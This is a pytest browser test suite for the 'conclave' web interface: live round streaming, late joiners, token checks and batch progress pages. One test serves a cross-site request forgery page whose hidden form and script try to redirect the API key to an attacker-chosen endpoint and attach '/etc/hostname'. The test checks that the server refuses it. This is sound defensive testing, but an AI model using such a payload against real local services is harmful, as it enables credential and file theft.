"""The live web view in a real headless Chromium (Debian's ``chromium`` + ``chromium-driver`` through Selenium):
a consultation started from the page streams its rounds while the fake server is still answering, a viewer who
opens the page late sees the rounds already played, and a wrong token gets 401. Screenshots go to
``tests/artifacts/``."""

from __future__ import annotations

import asyncio
import html
import http.server
import os
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser_support import needs_browser, screenshot, serving
from test_engine_support import AGENT_MODELS, JUDGE_MODEL

from conclave.store.paths import StoreLayout
from conclave.testing.answer_panel import AnswerPanel
from conclave.testing.fake_server import FakeProviderServer, Reply
from conclave.testing.pytest_plugin import FAKE_KEYS
from conclave.testing.schema_instances import instance_for

pytestmark = needs_browser

TOKEN = "browser-test-token"


@pytest.fixture
def served(tmp_path: Path, fake_provider_server: FakeProviderServer) -> Iterator[str]:
    """``conclave serve`` as a real process on a free port, with a known token; the fake's endpoints, the judge and
    approval are the server's own command-line overrides."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("CONCLAVE_")}
    env.update(FAKE_KEYS, CONCLAVE_HOME=str(tmp_path), CONCLAVE_WEB_TOKEN=TOKEN, CONCLAVE_PROGRESS="0")
    command = [sys.executable, "-m", "conclave", "serve", "--port", "{port}", *fake_provider_server.overrides(),
               f"judge.model={JUDGE_MODEL}", "cost.auto_approve=true"]
    with serving(command, f"/?token={TOKEN}", env=env, cwd=tmp_path) as url:
        yield url


def _start(base: str, browser: Any) -> str:
    """Start a consultation through the page's form, as a person does; the id it redirects to."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    browser.get(f"{base}/?token={TOKEN}")
    browser.find_element(By.NAME, "question").send_keys("Should we watch it live?")
    Select(browser.find_element(By.NAME, "rounds")).select_by_value("2")
    browser.find_element(By.CSS_SELECTOR, "form.start button").click()
    for _ in range(600):
        if "/c/" in browser.current_url:
            return str(browser.current_url).split("/c/")[1].split("?")[0]
        time.sleep(0.1)
    raise AssertionError("the form did not lead to the consultation's page")


class _AttackerPage(http.server.BaseHTTPRequestHandler):
    """Another local server's page (a dev server, a notebook) that submits conclave's start form with its own
    fields: an endpoint of its choosing with send_key=always, a local file as context, approval."""

    target = ""

    def do_GET(self) -> None:
        fields = {"question": "Anything?", "overrides": "providers.openai.base_url=http://127.0.0.1:9/v1\n"
                  "providers.openai.send_key=always\ncontext=[/etc/hostname]", "approve": "yes",
                  "panel": "default", "csrf": "guessed"}
        inputs = "".join(f"<input type=hidden name={k} value='{html.escape(v)}'>" for k, v in fields.items())
        body = (f"<!doctype html><body><p>innocent page</p><form id=f method=post action='{self.target}/consult'>"
                f"{inputs}</form><script>fetch('{self.target}/consult', {{method: 'POST', mode: 'no-cors', "
                "credentials: 'include', body: new URLSearchParams({question: 'fetch?'})}).finally(() => "
                "document.getElementById('f').submit());</script></body>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


def test_a_page_on_another_local_port_cannot_start_a_consultation(
    served: str, browser: Any, fake_provider_server: FakeProviderServer, tmp_path: Path
) -> None:
    """The review's CSRF exploit in a real browser: the user's token cookie is set (they opened the view), then a
    page served on another 127.0.0.1 port submits the start form. Nothing starts and nothing is sent."""
    browser.get(f"{served}/?token={TOKEN}")
    _AttackerPage.target = served
    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AttackerPage)
    thread = threading.Thread(target=attacker.serve_forever, daemon=True)
    thread.start()
    try:
        browser.get(f"http://127.0.0.1:{attacker.server_address[1]}/")
        for _ in range(100):
            if browser.current_url.startswith(served):
                break
            time.sleep(0.1)
        text = browser.find_element("tag name", "body").text
        screenshot(browser, "live_csrf_refused")
    finally:
        attacker.shutdown()
    assert browser.current_url.startswith(f"{served}/consult") and text.startswith("403")
    time.sleep(0.5)
    journal_dir = StoreLayout(tmp_path).journal_dir
    assert not (journal_dir.is_dir() and list(journal_dir.glob("*.jsonl")))
    assert fake_provider_server.requests == []


async def test_the_live_page_shows_rounds_while_they_run_and_to_late_joiners(
    served: str, browser: Any, fake_provider_server: FakeProviderServer
) -> None:
    from selenium.webdriver.common.by import By

    for model in [*AGENT_MODELS.values(), JUDGE_MODEL]:
        fake_provider_server.script(model, lambda r: Reply(json=instance_for(r.schema), latency=1.5))
    cid = await asyncio.to_thread(_start, served, browser)

    def rounds() -> list[str]:
        found: list[str] = browser.execute_script(
            "return Array.from(document.querySelectorAll('.round h2 .kind')).map(k => k.textContent)")
        return found

    def thinking() -> int:
        return len(browser.find_elements(By.CSS_SELECTOR, ".agent.thinking"))

    seen_thinking = False
    for _ in range(300):  # while round 1 runs, its agents show as thinking, with their time running
        if thinking():
            seen_thinking = True
            break
        await asyncio.sleep(0.05)
    assert seen_thinking, "no agent was shown thinking while round 1 ran"
    for _ in range(600):
        if "Synthesis" in await asyncio.to_thread(rounds):
            break
        await asyncio.sleep(0.1)
    status = browser.find_element(By.ID, "status").text
    assert "Synthesis" in await asyncio.to_thread(rounds) and status == "running"
    await asyncio.to_thread(screenshot, browser, "live_running")
    for _ in range(600):
        if browser.find_element(By.ID, "status").text == "complete":
            break
        await asyncio.sleep(0.1)
    assert browser.find_element(By.ID, "conn").text == "finished"

    # a late joiner: everything so far, at once
    await asyncio.to_thread(browser.get, f"{served}/c/{cid}?token={TOKEN}")
    for _ in range(100):
        if browser.find_element(By.ID, "status").text == "complete":
            break
        await asyncio.sleep(0.1)
    assert await asyncio.to_thread(rounds) == ["Independent", "Synthesis"]
    cards = browser.find_elements(By.CSS_SELECTOR, ".agent.done")
    assert len(cards) == len(AGENT_MODELS) + 1  # every agent in round 1, the judge in round 2
    await asyncio.to_thread(screenshot, browser, "live_late_joiner")


def test_a_wrong_token_gets_401(served: str) -> None:
    for path in ("/", "/c/x/events", "/consult", "/e/x", "/e/x/events"):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{served}{path}?token=not-it", timeout=10)
        assert refused.value.code == 401
    listing = urllib.request.urlopen(f"{served}/?token={TOKEN}", timeout=10).read().decode()
    assert "<form method=post action=/consult class=start>" in listing


EVAL_PANEL = ["agents.security.provider=openai", "agents.security.model=gpt-4o", "agents.pragmatist.provider=openai",
              "agents.pragmatist.model=gpt-4o", "judge.model=gpt-4.1"]


async def test_an_evaluation_runs_page_shows_each_batchs_progress_while_it_is_polled(
    served: str, browser: Any, fake_provider_server: FakeProviderServer, tmp_path: Path
) -> None:
    """A batched ``conclave eval`` in the served home: its page lists every batch with provider, id, status and
    counts done/failed/total, live, then as each ended."""
    from selenium.webdriver.common.by import By

    fake = fake_provider_server
    AnswerPanel({n: 1.0 for n in ("Security Expert", "Systems Architect", "Pragmatic Engineer")}).install(fake)
    fake.batches.latency = 4.0
    env = {k: v for k, v in os.environ.items() if not k.startswith("CONCLAVE_")}
    env.update(FAKE_KEYS, CONCLAVE_HOME=str(tmp_path), CONCLAVE_PROGRESS="0")
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "conclave", "eval", "arithmetic", "eval.n=3", "eval.run_id=ev-web", "rounds=2",
        "eval.batch=true", "eval.batch_poll_s=0.2", "selective.enabled=false", "cost.auto_approve=true",
        *EVAL_PANEL, *fake.overrides(), stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.PIPE, env=env, cwd=str(tmp_path))
    for _ in range(600):  # the run exists once its estimate was approved
        if (tmp_path / "eval" / "ev-web" / "run.json").is_file() or process.returncode is not None:
            break
        await asyncio.sleep(0.05)
    listing = await asyncio.to_thread(lambda: urllib.request.urlopen(f"{served}/?token={TOKEN}", timeout=10).read())
    assert "<a href='/e/ev-web'>ev-web</a>" in listing.decode()
    await asyncio.to_thread(browser.get, f"{served}/e/ev-web?token={TOKEN}")

    def rows() -> list[list[str]]:
        found: list[list[str]] = browser.execute_script(
            "return Array.from(document.querySelectorAll('#batches tr')).map("
            "r => Array.from(r.cells).map(c => c.textContent))")
        return found

    live: list[list[str]] = []
    for _ in range(600):  # round 1's batch while it is being answered: part of its requests done
        live = await asyncio.to_thread(rows)
        if live and live[0][3] == "in_progress" and not live[0][4].startswith(("0/", "9/")):
            break
        await asyncio.sleep(0.05)
    first = fake.batches.created[0][1]
    assert live and live[0][:4] == ["openai", first, "1", "in_progress"], live
    assert live[0][4].endswith("/9 done, 0 failed"), live
    await asyncio.to_thread(screenshot, browser, "eval_batches_running")
    _, err = await asyncio.wait_for(process.communicate(), timeout=120)
    assert process.returncode == 0, err.decode()
    for _ in range(200):
        if browser.find_element(By.ID, "conn").text == "run ended":
            break
        await asyncio.sleep(0.1)
    assert browser.find_element(By.ID, "conn").text == "run ended"
    assert browser.find_element(By.ID, "status").text == "complete"
    ended = await asyncio.to_thread(rows)
    assert ended == [["openai", first, "1", "completed", "9/9 done, 0 failed"],
                     ["openai", fake.batches.created[1][1], "2", "completed", "3/3 done, 0 failed"]], ended
    await asyncio.to_thread(screenshot, browser, "eval_batches_ended")
